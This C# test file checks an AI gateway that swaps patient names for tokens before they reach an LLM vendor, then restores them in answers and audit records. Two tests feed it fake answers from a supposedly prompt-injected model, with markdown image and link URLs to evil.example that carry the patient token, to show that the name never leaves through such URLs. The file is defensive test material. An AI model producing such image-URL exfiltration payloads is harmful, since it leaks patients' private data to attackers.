using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Builder;
using Microsoft.Extensions.DependencyInjection;
using XefAI.Data;
using XefAI.Gateway.Tests.Pipeline.TestSupport;
using XefAI.Testing;
using static XefAI.Testing.GatewayCalls;

namespace XefAI.Gateway.Tests.Functional;

/// <summary>
/// De-identification as an app and a governance reviewer see it: what reaches a vendor with or without a BAA, what the
/// caller gets back, what the audit record and the metrics say. A test de-identifier that knows one name stands in for
/// the real one.
/// </summary>
[Collection(ProcessMetricsCollection.Name)]
public sealed class DeIdentificationTests
{
    private const string Name = "Alice Example";
    private const string Token = "[NAME_1]";
    private const string Question = $"{Name} has asthma. Summarise.";

    [Fact]
    public async Task Chat_Tier1VendorWithoutBaa_VendorSeesTheTokenCallerGetsTheNameAndTheRecordCountsIt()
    {
        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion($"{Token} is stable."));
        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));

        Assert.Equal(200, call.Status);
        var sent = vendor.LastRequestBody.ToJsonString();
        Assert.Contains($"{Token} has asthma.", sent, StringComparison.Ordinal);
        Assert.DoesNotContain("Alice", sent, StringComparison.Ordinal);
        Assert.Equal($"{Name} is stable.", (string?)call.Json["choices"]![0]!["message"]!["content"]);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal("applied", (string?)record["deIdentification"]);
        Assert.Equal("name=1", (string?)record["redactions"]);
        Assert.Null((string?)record["inputText"]);

        using var scraper = host.CreateClient(key: null);
        var metrics = string.Empty;
        await AdminCalls.WaitUntilAsync(
            async () =>
            {
                metrics = await scraper.GetStringAsync(new Uri("/metrics", UriKind.Relative));
                // Every kind is listed at 0 from start-up: wait for the count, not the series.
                return System.Text.RegularExpressions.Regex.IsMatch(metrics, "(?m)^xefai_phi_redactions_total\\{[^}]*kind=\"name\"[^}]*\\} [1-9]");
            },
            "the redactions metric");
        Assert.Matches("(?m)^xefai_phi_redactions_total\\{[^}]*kind=\"name\"[^}]*\\} 1", metrics);
        Assert.DoesNotContain("Alice", metrics, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Chat_VendorAnswerRepeatsAField_IsAVendorErrorNotA500()
    {
        // A field named twice has no one value to re-identify or to show the caller: the answer is refused as malformed.
        var answer = FakeVendor.Completion($"{Token} is stable.");
        answer = answer.Insert(answer.IndexOf('{', StringComparison.Ordinal) + 1, "\"id\":\"dup-1\",");
        using var vendor = new FakeVendor().AnswersWith(200, answer);
        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));

        Assert.Equal(502, call.Status);
        Assert.DoesNotContain(Name, System.Text.Encoding.UTF8.GetString(call.ResponseBody), StringComparison.Ordinal);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal(502, (int)record["statusCode"]!);
    }

    [Fact]
    public async Task Chat_VendorWithBaa_GetsTheOriginalAndTheRecordSaysNotRequired()
    {
        using var vendor = new FakeVendor().AnswersWithExample();
        await using var host = await GatewayHost.StartAsync(
            c =>
            {
                vendor.Configure(c);
                c["Models"]!["Deployments"]!["vendor"]!["Baa"] = true;
            },
            builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));

        Assert.Equal(200, call.Status);
        Assert.Equal(Question, (string?)vendor.LastRequestBody["messages"]![0]!["content"]);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal("not-required", (string?)record["deIdentification"]);
        Assert.Null((string?)record["redactions"]);
    }

    [Fact]
    public async Task Chat_UseCaseOptedOut_VendorGetsTheOriginalAndTheModelCardAndEveryRecordSaySo()
    {
        const string Reason = "Synthetic training notes only; no real patients.";
        using var vendor = new FakeVendor().AnswersWithExample();

        // The pass-through protector: an opted-out use case needs no de-identifier to reach an uncovered vendor.
        await using var host = await GatewayHost.StartAsync(c =>
        {
            vendor.Configure(c);
            c["Governance"]!["UseCases"]!["vendor-chat"]!["DeIdentification"] = new JsonObject { ["OptOut"] = true, ["Reason"] = Reason };
        });
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));
        var refused = await client.PostChatAsync("""{"model":"vendor-chat","max_tokens":-1,"messages":[{"role":"user","content":"x"}]}""");

        Assert.Equal(200, call.Status);
        Assert.Equal(Question, (string?)vendor.LastRequestBody["messages"]![0]!["content"]);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal("opted-out", (string?)record["deIdentification"]);
        Assert.Null((string?)record["redactions"]);

        // A call refused before it got that far has nothing to say of de-identification.
        Assert.Equal(400, refused.Status);
        Assert.Null((string?)(await host.GetAuditRecordAsync(refused.Header("X-XefAI-Audit-Id")!))["deIdentification"]);

        var card = await client.GetFromJsonAsync<JsonObject>("/v1/use-cases/vendor-chat/model-card");
        Assert.Equal("opted-out", (string?)card!["deIdentification"]!["mode"]);
        Assert.Equal(Reason, (string?)card["deIdentification"]!["optOutReason"]);
        var listed = (await client.GetFromJsonAsync<JsonObject>("/v1/use-cases"))!["data"]!.AsArray();
        Assert.Equal("opted-out", (string?)listed.Single(u => (string?)u!["id"] == "vendor-chat")!["deIdentification"]!["mode"]);
        Assert.Equal("de-identified", (string?)listed.Single(u => (string?)u!["id"] == "summary")!["deIdentification"]!["mode"]);
        using var admin = host.CreateClient(GatewayHost.AdminKey);
        var configured = (await admin.GetFromJsonAsync<JsonObject>("/admin/use-cases"))!["data"]!.AsArray();
        Assert.Equal(Reason, (string?)configured.Single(u => (string?)u!["id"] == "vendor-chat")!["deIdentificationOptOut"]);
        Assert.Null((string?)configured.Single(u => (string?)u!["id"] == "summary")!["deIdentificationOptOut"]);
    }

    [Fact]
    public async Task Chat_TierDoesNotReIdentifyAnswers_TheCallerGetsTheTokens()
    {
        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion($"{Token} is stable."));
        await using var host = await GatewayHost.StartAsync(
            c =>
            {
                vendor.Configure(c);
                c.RiskTier(1, new JsonObject { ["ReIdentifyAnswers"] = false });
            },
            builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));

        Assert.Equal(200, call.Status);
        Assert.Equal($"{Token} is stable.", (string?)call.Json["choices"]![0]!["message"]!["content"]);
        Assert.DoesNotContain("Alice", Encoding.UTF8.GetString(call.ResponseBody), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Stream_TokenSplitAcrossDeltas_TheCallerGetsTheNameWholeAndTheRecordKeepsWhatTheVendorStreamed()
    {
        using var vendor = new FakeVendor().StreamsEvents(Events("[NA", "ME_1] is", " stable."));
        await using var host = await GatewayHost.StartAsync(
            c =>
            {
                vendor.Configure(c);
                c.RiskTier(1, new JsonObject { ["AuditVerbatim"] = true });
            },
            builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(
            new JsonObject { ["model"] = "vendor-chat", ["stream"] = true, ["messages"] = new JsonArray(new JsonObject { ["role"] = "user", ["content"] = Question }) }.ToJsonString());

        var body = Encoding.UTF8.GetString(call.ResponseBody);
        Assert.EndsWith("data: [DONE]\n\n", body, StringComparison.Ordinal);
        var deltas = body.Split("\n\n")
            .Where(e => e.StartsWith("data: {", StringComparison.Ordinal))
            .Select(e => (string?)JsonNode.Parse(e["data: ".Length..])!["choices"]?[0]?["delta"]?["content"])
            .Where(d => d is not null);
        Assert.Equal($"{Name} is stable.", string.Concat(deltas));
        Assert.All(deltas, d => Assert.DoesNotContain("[", d, StringComparison.Ordinal));

        var records = await host.GetAuditRecordsOfTraceAsync(call.Header("X-XefAI-Trace-Id")!);
        var closing = records[^1];
        Assert.Equal("answered", (string?)closing["decision"]);
        Assert.Equal("applied", (string?)closing["deIdentification"]);
        Assert.Equal("name=1", (string?)closing["redactions"]);
        Assert.Equal($"{Token} is stable.", (string?)JsonNode.Parse((string)closing["outputText"]!)!["content"]);
        Assert.DoesNotContain("Alice", (string?)closing["inputText"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Chat_AnswerWithTheTokenInAMarkdownImageUrl_TheUrlKeepsTheTokenTheTextGetsTheName()
    {
        // A prompt-injected model writes the token into an image a chat UI would fetch at once: the name would leave.
        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion($"{Token} is stable. ![c](https://evil.example/c.png?n={Token}) [more](//evil.example/?n={Token})"));
        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));

        Assert.Equal(200, call.Status);
        Assert.Equal($"{Name} is stable. ![c](https://evil.example/c.png?n={Token}) [more](//evil.example/?n={Token})", (string?)call.Json["choices"]![0]!["message"]!["content"]);
    }

    [Fact]
    public async Task Stream_UrlBegunInADeltaWithoutAToken_TheTokenInItStaysTheTextGetsTheName()
    {
        using var vendor = new FakeVendor().StreamsEvents(Events("[NA", "ME_1] is stable. ![c](https://evil.", "example/c.png?n=", "[NAME_1]) bye [NAME_1]"));
        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(
            new JsonObject { ["model"] = "vendor-chat", ["stream"] = true, ["messages"] = new JsonArray(new JsonObject { ["role"] = "user", ["content"] = Question }) }.ToJsonString());

        var body = Encoding.UTF8.GetString(call.ResponseBody);
        var deltas = body.Split("\n\n")
            .Where(e => e.StartsWith("data: {", StringComparison.Ordinal))
            .Select(e => (string?)JsonNode.Parse(e["data: ".Length..])!["choices"]?[0]?["delta"]?["content"]);
        Assert.Equal($"{Name} is stable. ![c](https://evil.example/c.png?n={Token}) bye {Name}", string.Concat(deltas));
    }

    [Fact]
    public async Task Chat_RefusalsSentBackInTheHistory_AreAcceptedAndReachTheVendorDeIdentified()
    {
        // What the official SDKs send after a refusal: the assistant message as OpenAI answered it (content null), and a
        // refusal part, both quoting the patient.
        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion("Understood."));
        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
        using var client = host.CreateClient();
        var body = new JsonObject
        {
            ["model"] = "vendor-chat",
            ["messages"] = new JsonArray(
                new JsonObject { ["role"] = "user", ["content"] = Question },
                new JsonObject { ["role"] = "assistant", ["content"] = null, ["refusal"] = $"I can't discuss {Name}." },
                new JsonObject
                {
                    ["role"] = "assistant",
                    ["content"] = new JsonArray(new JsonObject { ["type"] = "refusal", ["refusal"] = $"Nor {Name}'s records." }),
                },
                new JsonObject { ["role"] = "user", ["content"] = "Then summarise in general terms." }),
        };

        var call = await client.PostChatAsync(body.ToJsonString());

        Assert.Equal(200, call.Status);
        var sent = vendor.LastRequestBody["messages"]!.AsArray();
        Assert.Equal($"I can't discuss {Token}.", (string?)sent[1]!["refusal"]);
        Assert.Equal($"Nor {Token}'s records.", (string?)sent[2]!["content"]![0]!["refusal"]);
        Assert.DoesNotContain("Alice", vendor.LastRequestBody.ToJsonString(), StringComparison.Ordinal);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal("applied", (string?)record["deIdentification"]);
        Assert.Equal(call.RequestSha256, (string?)record["inputSha256"]);
    }

    [Fact]
    public async Task Chat_TextCannotBeDeIdentified_422DeidentificationFailedAuditedAndNothingSent()
    {
        using var vendor = new FakeVendor().AnswersWithExample();
        await using var host = await GatewayHost.StartAsync(
            vendor.Configure,
            builder: b => b.Services.AddSingleton<IDataProtector>(new RefusingProtector("The text is in a form the de-identifier cannot read.")));
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));

        Assert.Equal(422, call.Status);
        var error = call.Json["error"]!;
        Assert.Equal("deidentification_failed", (string?)error["code"]);
        Assert.Contains("cannot read", (string?)error["message"], StringComparison.Ordinal);
        Assert.DoesNotContain("Alice", Encoding.UTF8.GetString(call.ResponseBody), StringComparison.Ordinal);
        Assert.Equal(0, vendor.CallCount);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal("denied", (string?)record["decision"]);
        Assert.Equal("deidentification_failed", record.ReasonsBeforeConfiguration());
        Assert.Equal(422, (int?)record["statusCode"]);
        Assert.Null((string?)record["deIdentification"]);
    }

    [Fact]
    public async Task Chat_VerbatimTierByDefault_RecordHoldsTheDeIdentifiedTextsAndTheRedactionCounts()
    {
        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion($"{Token} is stable."));
        await using var host = await GatewayHost.StartAsync(
            c =>
            {
                vendor.Configure(c);
                c["Governance"]!["UseCases"]!["vendor-chat"]!["Tier"] = 2;
            },
            builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", $"{Question} Ask {Name} to call back."));

        Assert.Equal(200, call.Status);
        Assert.Contains(Name, Encoding.UTF8.GetString(call.ResponseBody), StringComparison.Ordinal);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        var input = (string)record["inputText"]!;
        var output = (string)record["outputText"]!;
        Assert.Contains($"{Token} has asthma. Summarise. Ask {Token} to call back.", input, StringComparison.Ordinal);
        Assert.Contains($"{Token} is stable.", output, StringComparison.Ordinal);
        Assert.DoesNotContain("Alice", input + output, StringComparison.Ordinal);
        Assert.Equal("applied", (string?)record["deIdentification"]);
        Assert.Equal("name=1", (string?)record["redactions"]);

        // The hashes still stand for what the client sent and received.
        Assert.Equal(call.RequestSha256, (string?)record["inputSha256"]);
        Assert.Equal(call.ResponseSha256, (string?)record["outputSha256"]);
    }

    [Fact]
    public async Task Chat_VerbatimTierKeepingOriginalText_RecordHoldsTheClientsRequestAndTheAnswerAsReleased()
    {
        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion($"{Token} is stable."));
        await using var host = await GatewayHost.StartAsync(
            c =>
            {
                vendor.Configure(c);
                c["Governance"]!["UseCases"]!["vendor-chat"]!["Tier"] = 2;
                c.RiskTier(2, new JsonObject { ["VerbatimAuditText"] = "original" });
            },
            builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostChatAsync(ChatBody("vendor-chat", Question));

        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal(Encoding.UTF8.GetString(call.RequestBody), (string?)record["inputText"]);
        Assert.Equal(Encoding.UTF8.GetString(call.ResponseBody), (string?)record["outputText"]);
        Assert.Contains($"{Name} is stable.", (string?)record["outputText"], StringComparison.Ordinal);
        Assert.Equal("applied", (string?)record["deIdentification"]);
    }

    [Fact]
    public async Task Embeddings_VendorWithoutBaa_InputsAreDeIdentifiedAndTheVectorsComeBackAsTheVendorMadeThem()
    {
        using var vendor = new FakeVendor().AnswersEmbeddings();
        await using var host = await GatewayHost.StartAsync(
            c =>
            {
                vendor.Configure(c);
                c["Gateway"]!["Clients"]!["test-app"]!["UseCases"]!.AsArray().Add("note-embeddings");
                c["Models"]!["Deployments"]!["vendor-embed"] = new JsonObject { ["Kind"] = "openai", ["Cluster"] = "vendor", ["Model"] = FakeVendor.EmbeddingModel };
                c["Governance"]!["UseCases"]!["note-embeddings"] = GatewayHost.UseCase("Note embeddings", 1, "active", "vendor-embed");
            },
            builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostEmbeddingsAsync(
            new JsonObject { ["model"] = "note-embeddings", ["input"] = new JsonArray(Question, "No name here.") }.ToJsonString());

        Assert.Equal(200, call.Status);
        var sent = vendor.LastRequestBody["input"]!.AsArray().Select(i => (string?)i).ToList();
        Assert.Equal([$"{Token} has asthma. Summarise.", "No name here."], sent);

        // The fake vendor embeds a text as [index, its length, 0.25]: the length is that of the text it was sent.
        var first = call.Json["data"]!.AsArray().Single(d => (int?)d!["index"] == 0)!["embedding"]!.AsArray();
        Assert.Equal(sent[0]!.Length, (float)first[1]!);
        var record = await host.GetAuditRecordAsync(call.Header("X-XefAI-Audit-Id")!);
        Assert.Equal("applied", (string?)record["deIdentification"]);
        Assert.Equal("name=1", (string?)record["redactions"]);
    }

    [Fact]
    public async Task Responses_FunctionCallHistoryWithTheNameAndARefusal_VendorSeesTokensCallerGetsTheName()
    {
        // An app's call_id and text output parts naming the patient; the model refuses, quoting the token.
        var refusal = new JsonObject
        {
            ["id"] = "chatcmpl-r",
            ["object"] = "chat.completion",
            ["created"] = 1,
            ["model"] = "gpt-4o-mini",
            ["choices"] = new JsonArray(new JsonObject
            {
                ["index"] = 0,
                ["message"] = new JsonObject { ["role"] = "assistant", ["content"] = null, ["refusal"] = $"I can't discuss {Token}." },
                ["finish_reason"] = "stop",
            }),
            ["usage"] = new JsonObject { ["prompt_tokens"] = 5, ["completion_tokens"] = 5, ["total_tokens"] = 10 },
        }.ToJsonString();
        using var vendor = new FakeVendor().AnswersWith(200, refusal);
        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostResponsesAsync($$"""
            {"model":"vendor-chat","input":[
              {"role":"user","content":"Weigh the patient."},
              {"type":"function_call","call_id":"{{Name}}","name":"weight","arguments":"{}"},
              {"type":"function_call_output","call_id":"{{Name}}","output":[{"type":"input_text","text":"{{Name}}: 70 kg"}]}
            ]}
            """);

        Assert.Equal(200, call.Status);
        var sent = vendor.LastRequestBody;
        Assert.DoesNotContain("Alice", sent.ToJsonString(), StringComparison.Ordinal);
        Assert.Equal(Token, (string?)sent["messages"]![1]!["tool_calls"]![0]!["id"]);
        Assert.Equal(Token, (string?)sent["messages"]![2]!["tool_call_id"]);
        Assert.Equal($"{Token}: 70 kg", (string?)sent["messages"]![2]!["content"]);
        var part = call.Json["output"]![0]!["content"]![0]!;
        Assert.Equal("refusal", (string?)part["type"]);
        Assert.Equal($"I can't discuss {Name}.", (string?)part["refusal"]);
    }

    [Fact]
    public async Task Responses_FunctionCallOutputWithAnImage_422AsAChatImageIsAndNothingSent()
    {
        using var vendor = new FakeVendor().AnswersWithExample();
        await using var host = await GatewayHost.StartAsync(vendor.Configure, builder: WithWordProtector);
        using var client = host.CreateClient();

        var call = await client.PostResponsesAsync("""
            {"model":"vendor-chat","input":[
              {"role":"user","content":"Read the scan."},
              {"type":"function_call","call_id":"call_1","name":"scan","arguments":"{}"},
              {"type":"function_call_output","call_id":"call_1","output":[{"type":"input_image","image_url":"data:image/png;base64,AAAA"}]}
            ]}
            """);

        Assert.Equal(422, call.Status);
        Assert.Equal("deidentification_failed", (string?)call.Json["error"]!["code"]);
        Assert.Equal(0, vendor.CallCount);
    }

    private static void WithWordProtector(WebApplicationBuilder builder) =>
        builder.Services.AddSingleton<IDataProtector>(new WordProtector(Name, Token));

    /// <summary>An OpenAI stream whose content deltas are <paramref name="deltas"/>, then a finish chunk and [DONE].</summary>
    private static string Events(params string[] deltas)
    {
        var events = new StringBuilder();
        foreach (var delta in deltas)
        {
            events.Append("data: ").Append(Chunk(new JsonObject { ["content"] = delta }, null)).Append("\n\n");
        }

        events.Append("data: ").Append(Chunk([], "stop")).Append("\n\n");
        events.Append("data: [DONE]\n\n");
        return events.ToString();

        static string Chunk(JsonObject delta, string? finishReason) => new JsonObject
        {
            ["id"] = "chatcmpl-deid",
            ["object"] = "chat.completion.chunk",
            ["created"] = 1694268190,
            ["model"] = "gpt-4o-mini",
            ["choices"] = new JsonArray(new JsonObject { ["index"] = 0, ["delta"] = delta, ["finish_reason"] = finishReason }),
        }.ToJsonString();
    }

    /// <summary>A de-identifier that cannot read what it is given.</summary>
    private sealed class RefusingProtector(string reason) : IDataProtector, IDataProtection
    {
        public string Name => "test-refusing";

        public bool DeIdentifies => true;

        public int Replacements => 0;

        public IReadOnlyDictionary<string, int> ReplacementsByKind { get; } = new Dictionary<string, int>();

        public IDataProtection Begin(ClinicalContext context) => this;

        public string Protect(string text) => throw new DeIdentificationException(reason);

        public string Restore(string text) => text;
    }
}
